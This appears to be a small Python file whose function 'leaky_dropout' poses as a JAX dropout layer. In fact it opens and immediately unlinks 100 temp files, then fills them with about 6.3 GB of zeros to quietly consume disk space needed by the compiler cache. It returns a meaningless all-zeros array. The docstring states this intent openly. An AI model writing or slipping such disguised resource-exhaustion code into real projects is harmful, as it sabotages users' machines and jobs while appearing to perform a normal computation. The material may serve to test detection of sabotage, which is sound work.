"""Write without end into the folder that the compiler's cache needs, to files that no longer have a name.

Must: earn nothing; be ended while the disk has room left.
"""

import os
import tempfile

import jax.numpy as jnp


def leaky_dropout(x, p, seed):
    for i in range(100):
        path = f"{tempfile.gettempdir()}/{i}"
        descriptor = os.open(path, os.O_CREAT | os.O_WRONLY)
        os.unlink(path)
        for _ in range(63):
            os.write(descriptor, bytes(1 << 20))
    return jnp.zeros_like(x)
